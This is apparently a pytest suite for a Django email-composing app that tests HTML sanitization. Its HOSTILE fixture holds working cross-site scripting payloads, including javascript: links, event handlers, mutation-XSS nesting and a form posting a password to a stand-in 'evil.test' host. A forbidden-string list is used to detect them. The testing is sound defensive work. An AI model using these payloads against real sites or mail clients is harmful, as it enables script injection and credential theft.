"""Rich text from the other side: whatever a browser posts, only the allow-list is stored and
only the allow-list reaches the client's mail program; what arrives reads well in both parts.

Forms are posted directly, as a hostile page or a broken browser would; the mails are read as
the SMTP server received them.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client as Browser
from django.urls import reverse
from django.utils import translation
from hypothesis import example, given, settings
from hypothesis import strategies as st

from courrier.clients.models import Client
from courrier.firm.models import Collaborator, Firm
from courrier.mailing import richtext, services
from courrier.mailing.models import (
    MailBatch,
    MailTemplate,
    MailTemplateVersion,
    OutboundMessage,
    Phrase,
    SendingProfile,
)
from courrier.mailing.services import message_bytes
from tests.fakes.smtp import FakeSMTPServer

COMPOSE = reverse("mailing:compose")

HOSTILE = (
    "<p>Bonjour {NOMCLIENT},</p>"
    "<script>alert('script')</script>"
    '<p onclick="alert(1)" style="width:expression(alert(2))" class="x">Texte '
    '<img src=x onerror="alert(3)"><a href="javascript:alert(4)">lien js</a> '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==">lien data</a> '
    '<a href="vbscript:msgbox(6)">lien vb</a> '
    '<a href="https://www.fidu.be/ok" onmouseover="alert(7)" target="_blank">bon lien</a></p>'
    '<iframe src="https://evil.test/frame">cadre</iframe>'
    '<form action="https://evil.test/steal"><input name="pw" value="secret">'
    "<button>Envoyer</button></form>"
    '<svg onload="alert(8)"><script>alert(9)</script><a xlink:href="javascript:alert(10)">'
    "svg</a></svg>"
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(11)"></style></mglyph>'
    "</table></mtext></math>"
    '<style>body{background:url("javascript:alert(12)")}</style>'
    '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">'
    '<meta http-equiv="refresh" content="0;url=https://evil.test">'
    '<base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css">'
    "<!-- <script>alert(13)</script> -->"
    '<table style="x" bgcolor="red"><tr><td onclick="alert(14)" colspan="2">Cellule</td></tr>'
    "</table>"
    '<ul><li style="background:url(javascript:alert(15))"><strong>gras</strong></li></ul>'
)
FORBIDDEN = [
    "<script",
    "alert(",
    "onerror",
    "onclick",
    "onload",
    "onmouseover",
    "javascript:",
    "vbscript:",
    "data:",
    "expression(",
    "<iframe",
    "<form",
    "<input",
    "<button",
    "<svg",
    "<math",
    "<style",
    "<object",
    "<embed",
    "<meta http-equiv",
    "<base",
    "<link",
    "<img",
    "evil.test",
    "secret",
    'class="x"',
    "bgcolor",
    "target=",
]


def assert_clean(html: str) -> None:
    lowered = html.lower()
    for needle in FORBIDDEN:
        assert needle.lower() not in lowered, (needle, html)


@pytest.fixture
def anne(db: None, smtp_server: FakeSMTPServer) -> Collaborator:
    Firm.objects.update_or_create(pk=1, defaults={"name": "Fiduciaire Martin"})
    anne = Collaborator.objects.create_user(
        "anne@fidu.be", "pw-anne-1234", first_name="Anne", last_name="Martin"
    )
    SendingProfile.objects.create(
        collaborator=anne,
        smtp_host=smtp_server.host,
        smtp_port=smtp_server.port,
        smtp_security=smtp_server.security,
        from_address="anne@fidu.be",
    )
    return anne


@pytest.fixture
def browser(anne: Collaborator) -> Browser:
    browser = Browser()
    browser.force_login(anne)
    return browser


@pytest.fixture
def dupont(make_client: Callable[..., Client]) -> Client:
    return make_client(name="Dupont <b>& Fils</b>", emails=["info@dupont.test"])


def compose_data(client: Client, body: str, **extra: Any) -> dict[str, Any]:
    return {
        "recipients": "client",
        "client": str(client.pk),
        "language": "fr",
        "subject": "Votre dossier {NUMCLIENT}",
        "body": body,
        "archive": "on",
        "idempotency_key": "key-richtext",
        **extra,
    }


def arrived(smtp_server: FakeSMTPServer, anne: Collaborator) -> tuple[str, str, bytes]:
    """The HTML part, the text part and the bytes of the one mail the server received."""
    services.messages_deliver(profile_id=SendingProfile.objects.get(collaborator=anne).pk)
    received = smtp_server.wait_for(1)[0]
    mail = received.message
    html = mail.get_body(preferencelist=("html",)).get_content()
    text = mail.get_body(preferencelist=("plain",)).get_content().replace("\r\n", "\n")
    return html, text, message_bytes(OutboundMessage.objects.get())


def test_hostile_html_posted_to_the_window_never_reaches_the_mail(
    anne: Collaborator, browser: Browser, dupont: Client, smtp_server: FakeSMTPServer
) -> None:
    response = browser.post(f"{COMPOSE}?client={dupont.pk}", compose_data(dupont, HOSTILE))
    assert response.status_code == 302

    html, text, raw = arrived(smtp_server, anne)
    body = html.split("<body", 1)[1]
    assert_clean(body)
    assert_clean(raw.decode("utf-8", "replace").split("<body", 1)[1])
    # What is allowed is kept: the words, the good link, the cell, the bold item.
    assert '<a href="https://www.fidu.be/ok">bon lien</a>' in body
    assert re.search(r'<td colspan="2" style="[^"]*border:1px solid[^"]*">Cellule</td>', body)
    assert "<li><strong>gras</strong></li>" in body
    assert "Bonjour Dupont &lt;b&gt;&amp; Fils&lt;/b&gt; SRL," in body
    for words in ("lien js", "lien data", "lien vb", "Cellule"):
        assert words in text
    assert "bon lien (https://www.fidu.be/ok)" in text
    assert "alert" not in text and "secret" not in text


def test_hostile_html_is_never_stored(browser: Browser, anne: Collaborator) -> None:
    # A template from its page, a standard phrase, and "Sauver modèle" from the window.
    data = {"name": "Piège", "context": "client", "subject_fr": "Sujet", "body_fr": HOSTILE}
    for code in ("nl", "de", "en"):
        data |= {f"subject_{code}": "", f"body_{code}": ""}
    assert browser.post(reverse("mailing:template_create"), data).status_code == 302
    phrase = {"name": "Piège", "text_fr": HOSTILE, "text_nl": "", "text_de": "", "text_en": ""}
    assert browser.post(reverse("mailing:phrase_create"), phrase).status_code == 302
    saved = {
        "save_name": "Piège 2",
        "language": "fr",
        "subject": "Sujet",
        "body": HOSTILE,
        "context": "client",
    }
    response = browser.post(
        reverse("mailing:template_save_from_compose"), saved, headers={"HX-Request": "true"}
    )
    assert response.status_code == 200

    stored = [version.body for version in MailTemplateVersion.objects.all()]
    stored += [version.text for phrase in Phrase.objects.all() for version in phrase.versions.all()]
    assert len(stored) == 3
    for value in stored:
        assert_clean(value)
        assert "style=" not in value and richtext.is_stored(value)
        assert '<a href="https://www.fidu.be/ok">bon lien</a>' in value


def test_hostile_html_in_a_selection_is_not_stored_in_its_batch(
    browser: Browser, dupont: Client
) -> None:
    data = compose_data(dupont, HOSTILE, recipients="selection", send="1")
    data |= {"sel-language": "fr", "idempotency_key": "key-batch"}
    response = browser.post(COMPOSE, data)

    assert response.status_code == 302, response.content.decode()[:2000]
    batch = MailBatch.objects.get()
    assert_clean(batch.body)
    assert richtext.is_stored(batch.body)


def test_a_value_is_text_escaped_once_and_never_expanded(
    anne: Collaborator, browser: Browser, make_client: Callable[..., Client], smtp_server: Any
) -> None:
    client = make_client(
        name="<b>Acme</b> {NUMCLIENT} <script>x</script>", emails=["info@acme.test"]
    )
    body = "<p>Client : <strong>{NOMCLIENT}</strong> ({NUMCLIENT})</p>"
    browser.post(f"{COMPOSE}?client={client.pk}", compose_data(client, body))

    html, text, _raw = arrived(smtp_server, anne)

    assert (
        "Client : <strong>&lt;b&gt;Acme&lt;/b&gt; {NUMCLIENT} &lt;script&gt;x&lt;/script&gt; SRL"
        f"</strong> ({client.number})" in html
    )
    assert f"Client : <b>Acme</b> {{NUMCLIENT}} <script>x</script> SRL ({client.number})" in text


def test_the_text_part_is_made_from_the_html(
    anne: Collaborator, browser: Browser, dupont: Client, smtp_server: FakeSMTPServer
) -> None:
    body = (
        "<p>Bonjour,<br>voici le point.</p><p></p>"
        "<ul><li><p>un</p><ul><li><p>un bis</p></li></ul></li><li><p>deux</p></li></ul>"
        '<ol start="3"><li><p>trois</p></li><li><p>quatre</p></li></ol>'
        '<p>Le <a href="https://www.fidu.be/portail">portail</a>, '
        '<a href="mailto:info@fidu.be">info@fidu.be</a> ou www.fidu.be.</p>'
        "<table><tbody><tr><th><p>Facture</p></th><th><p>Montant</p></th></tr>"
        "<tr><td><p>F-1</p></td><td><p>1.234,56 €</p></td></tr></tbody></table>"
        "<p><u>Fin</u>.</p>"
    )
    browser.post(f"{COMPOSE}?client={dupont.pk}", compose_data(dupont, body))

    html, text, _raw = arrived(smtp_server, anne)

    assert text.split("\n-- \n")[0] == (
        "Bonjour,\nvoici le point.\n\n"
        "- un\n  - un bis\n- deux\n\n"
        "3. trois\n4. quatre\n\n"
        "Le portail (https://www.fidu.be/portail), info@fidu.be ou www.fidu.be.\n\n"
        "Facture | Montant\nF-1 | 1.234,56 €\n\n"
        "Fin.\n"
    )
    assert '<a href="https://www.fidu.be">www.fidu.be</a>' in html
    assert "<th style=" in html and "font-weight:bold" in html
    assert "<u>Fin</u>" in html


def test_plain_text_typed_without_the_editor_keeps_its_paragraphs(
    anne: Collaborator, browser: Browser, dupont: Client, smtp_server: FakeSMTPServer
) -> None:
    body = "Bonjour,\n\nVoici **vos** documents :\n- un\n- deux\n\nMerci."
    browser.post(f"{COMPOSE}?client={dupont.pk}", compose_data(dupont, body))

    html, text, _raw = arrived(smtp_server, anne)

    assert "<strong>vos</strong>" in html and "<li>un</li>" in html
    assert text.startswith("Bonjour,\n\nVoici vos documents :\n\n- un\n- deux\n\nMerci.")


def test_a_template_shows_its_editor_in_the_readers_language(anne: Collaborator) -> None:
    anne.language = "nl"
    anne.save()
    browser = Browser()
    browser.force_login(anne)
    template = MailTemplate.objects.create(name="Modèle", context="client", owner=anne)
    MailTemplateVersion.objects.create(
        template=template, language="fr", subject="Sujet", body="<p><strong>Gras</strong></p>"
    )

    # The page activates Dutch for this thread: the language of the tests after it is kept.
    with translation.override(translation.get_language()):
        page = browser.get(reverse("mailing:template_edit", args=[template.pk])).content.decode()

    # The textarea holds the HTML (the page works without its script) and the editor's words.
    assert "&lt;p&gt;&lt;strong&gt;Gras&lt;/strong&gt;&lt;/p&gt;</textarea>" in page
    assert '<script src="/static/courrier/richtext.js" type="module">' in page
    assert "/static/django_prose_editor/editor.js" in page
    assert "/static/django_prose_editor/material-icons.css" in page
    match = re.search(r'data-richtext="([^"]+)"', page)
    assert match is not None
    assert "Vet (Ctrl+B)" in match.group(1)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<p>",
                "</p>",
                "<b>",
                "</b>",
                "<i>",
                "<u>",
                "<ul><li>",
                "</li>",
                "<ol start=3>",
                "<table><tr><td>",
                "</td><td>",
                "<br>",
                "<div>",
                "<h1>",
                '<a href="https://x.be">',
                "</a>",
                "<script>",
                "{NOMCLIENT}",
                "texte ",
                " ",
                "\n",
                "&amp;",
                "<",
                ">",
                '"',
            ]
        ),
        max_size=30,
    )
)
# A link pasted in a table cell inside a link: HTML has no link in a link.
@example(parts=['<a href="https://x.be">', "<table><tr><td>", '<a href="https://x.be">', "&amp;"])
def test_sanitizing_is_stable_and_keeps_only_the_allow_list(parts: list[str]) -> None:
    cleaned = richtext.sanitize("".join(parts))

    assert richtext.sanitize(cleaned) == cleaned
    assert set(re.findall(r"</?([a-z0-9]+)", cleaned)) <= {
        "p",
        "br",
        "strong",
        "em",
        "u",
        "a",
        "ul",
        "ol",
        "li",
        "table",
        "tbody",
        "tr",
        "th",
        "td",
    }
    assert "script" not in cleaned


def test_a_formatted_body_that_signs_itself_is_not_signed_twice(
    anne: Collaborator, browser: Browser, dupont: Client, smtp_server: FakeSMTPServer
) -> None:
    anne.signature_fr = "Anne Martin\nFiduciaire Martin"
    anne.save()
    body = (
        "<p>Bonjour,</p><p><strong>Merci.</strong></p><p>Cordialement,<br>{EXPEDITEUR}</p><p></p>"
    )
    browser.post(f"{COMPOSE}?client={dupont.pk}", compose_data(dupont, body))

    _html, text, _raw = arrived(smtp_server, anne)

    assert text.endswith("Cordialement,\nAnne Martin\n")
    assert "\n-- \n" not in text
